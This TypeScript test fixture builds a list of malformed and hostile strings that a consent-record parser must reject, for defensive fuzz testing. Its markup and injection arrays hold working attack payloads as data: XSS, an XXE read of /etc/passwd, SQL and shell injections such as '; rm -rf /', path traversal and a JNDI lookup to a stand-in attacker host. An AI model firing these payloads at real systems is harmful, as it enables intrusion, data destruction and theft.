const range = (from: number, to: number): number[] => Array.from({ length: to - from + 1 }, (_, at) => from + at);
const chars = (codes: readonly number[]): string[] => codes.map((code) => String.fromCharCode(code));

/** All control characters, alone and inside of JSON. */
const controls = chars([...range(0x00, 0x1f), ...range(0x7f, 0x9f)]);
const controlsInside = controls.map((one) => `{"version":1,${one}"consents":[${one}]`);

/** Invisible characters, direction marks and lone surrogates. */
const unicode = [
  ...chars([0xa0, 0xad, 0x34f, 0x61c, 0x115f, 0x1680, 0x180e, ...range(0x2000, 0x200f), ...range(0x2028, 0x202f)]),
  ...chars([...range(0x2060, 0x206f), 0x3000, 0x3164, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffa, 0xfffb, 0xfffd, 0xffff]),
  ...chars([0xd800, 0xdbff, 0xdc00, 0xdfff, 0xfffe, 0xfdd0, 0xe000]),
  '\ude00\ud83d',
  '\u202e"noisrev"{',
  '\ufeff{"version":1,"consents":[]}',
  'Z̸̧̛͎͙͖̘̟̩͈̯̈́̆͑̅͆̒̌͝a̶̡̛̘̣̼͇͙͙̓̀̎̔̔̃́̚͝l̴̢̡̛̫̪̬̗̰̩̏̈́͋́́̌̐g̷̢̧̞̣̝͔̭̏̅̄̽̒̏̀̕͝ͅǫ̸̛̘̝̪̞̻͇̐̄̀̂̑̚͝',
  '👩‍👩‍👧‍👦🏳️‍🌈🇩🇪👍🏽',
  'Ⅷ½²①㎏ﬁǆİıßẞſ',
  'é e\u0301 ñ n\u0303 Å Å',
  '١٢٣ १२३ 一二三',
  'مرحبا שלום नमस्ते こんにちは 안녕하세요',
  '﷽',
  '꧅𒐫',
];

const markup = [
  ...['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '</script><script>'],
  ...[
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '<?xml version="1.0"?>',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
  ],
  ...['&lt;b&gt;', '&#x0;', '&amp;amp;', '<iframe srcdoc="x">', '<base href=//evil.example>', '<style>*{display:none}'],
  ...[
    '<math><mi xlink:href="javascript:alert(1)">',
    '<a href="jav&#x09;ascript:alert(1)">',
    '<b onmouseover=alert(1)>',
  ],
  ...[
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    '" autofocus onfocus="x',
    "' or '1'='1",
  ],
];

const injections = [
  ...[
    "'; DROP TABLE consent; --",
    '1; SELECT pg_sleep(9)',
    '" UNION SELECT * FROM users',
    "admin'--",
    '%00',
    '%0d%0aSet-Cookie:a=b',
  ],
  ...[
    '../../../etc/passwd',
    '..\\..\\windows',
    'file:///dev/zero',
    '|| true',
    '; rm -rf /',
    '$(reboot)',
    '`id`',
    '| cat',
  ],
  ...[
    '{{7*7}}',
    '\u0024{7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{%raw%}',
    '\u0024{jndi:ldap://evil.example/a}',
    '%s%s%s%n',
    '%x%x',
    '{0}',
  ],
  ...['*)(uid=*', '(&(a=b))', '^(a+)+$', '(?<=a)b', '[\\]', '\\', '\\\\', '\\u0000', '\\x41', '\r\n', '\n\n\n', '\t'],
  ...[
    '=1+1',
    '@SUM(A1)',
    '+cmd',
    '-2+3',
    '/dev/null; touch x',
    'nul',
    'con',
    'aux',
    'com1',
    '.htaccess',
    '.git/config',
  ],
];

const words = [
  ...['', ' ', '""', "''", '0', '-0', '1', '-1', '00', '01', '+1', '1.', '.1', '1e', '1e5', '1e999', '-1e999', '0x1F'],
  ...['0b1', '0o7', '1_000', '1,000', '1/0', 'NaN', 'Infinity', '-Infinity', '9007199254740993', '1'.repeat(400)],
  ...[
    '1e-400',
    '٣',
    '½',
    'true',
    'false',
    'null',
    'undefined',
    'True',
    'TRUE',
    'FALSE',
    'None',
    'nil',
    'NULL',
    'yes',
    'on',
  ],
  ...[
    '[object Object]',
    'function(){}',
    '()=>1',
    'Symbol()',
    'new Date()',
    '2026-11-22',
    '/x/g',
    'let',
    'this',
    'void 0',
  ],
  ...[
    '"text"',
    '"true"',
    '"1"',
    '"{}"',
    '"[]"',
    '"null"',
    '"\\u0000"',
    '"\\ud800"',
    '["version",1]',
    '[[1]]',
    '[null]',
  ],
];

const prototypes = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'toJSON',
  'then',
].flatMap((key) => [
  key,
  `{"${key}":1}`,
  `{"version":1,"${key}":{"consents":[],"consentGiven":true}}`,
  `{"version":1,"consents":{"${key}":true}}`,
  `{"version":1,"consents":["${key}"]}`,
  `[{"${key}":{"version":1}}]`,
]);

/** Valid records with one value of a wrong type; none of them is a consent. */
const values = ['null', 'true', '1', '1.5', '-1', '""', '"1"', '"true"', '[]', '{}', '[true]', '{"a":1}', '1e400'];
const wrongKinds = values.flatMap((value) => [
  value,
  `{"version":${value === '1' ? '2' : value},"consents":[{"function_id":"map","consentGiven":true,"revision":1}],"consentGiven":true}`,
  `{"version":1,"consents":${value},"consentGiven":"${value.replaceAll('"', '')}"}`,
  `{"version":1,"consents":[${value}]}`,
  `{"version":1,"consents":[{"function_id":"map","consentGiven":${value === 'true' ? '"true"' : value},"revision":1}]}`,
  `{"version":1,"consents":[{"function_id":"map","consentGiven":true,"revision":${/^-?1$/.test(value) ? '1.5' : value}}]}`,
]);

/** A stored value truncated at each byte. */
const whole =
  '{"version":1,"timestamp":"2026-11-22","consents":[{"function_id":"map","consentGiven":true,"locked":false}]}';
const cutOff = range(1, whole.length - 1).map((length) => whole.slice(0, length));

const brokenJson = [
  ...[
    '{',
    '}',
    '[',
    ']',
    '{]',
    '[}',
    '{"',
    '{"a',
    '{"a"',
    '{"a":',
    '{"a":}',
    '{"a":1,}',
    '[1,]',
    '{a:1}',
    "{'a':1}",
    '{,}',
  ],
  ...['{"a":01}', '{"a":undefined}', '{"a":NaN}', '{"a":1}{"a":1}', '// x', '/* x */ {}', '{"a":"\n"}', '{"\u0000":1}'],
  ...[
    'nul',
    'tru',
    '"\\u12"',
    '"\\x"',
    '{"a":1e}',
    '--1',
    '{}}',
    '[]]',
    '"unfinished',
    '{"version":1',
    '{"version":1,"consents":[}',
  ],
];

const huge = [
  'x'.repeat(200_000),
  '['.repeat(60_000),
  '{"a":'.repeat(20_000),
  `"${'\\u0000'.repeat(20_000)}"`,
  `{"version":1,"consents":[${'null,'.repeat(20_000)}null]}`,
  `{"version":1,"consents":{"length":1e9},"text":"${'ß'.repeat(50_000)}"}`,
  '🂡'.repeat(30_000),
  ' '.repeat(100_000),
];

/** Strings that a parser of stored values must reject, without duplicates. */
export const naughtyStrings: readonly string[] = [
  ...new Set([
    ...[...controls, ...controlsInside, ...unicode, ...markup, ...injections, ...words],
    ...[...prototypes, ...wrongKinds, ...cutOff, ...brokenJson, ...huge],
  ]),
];
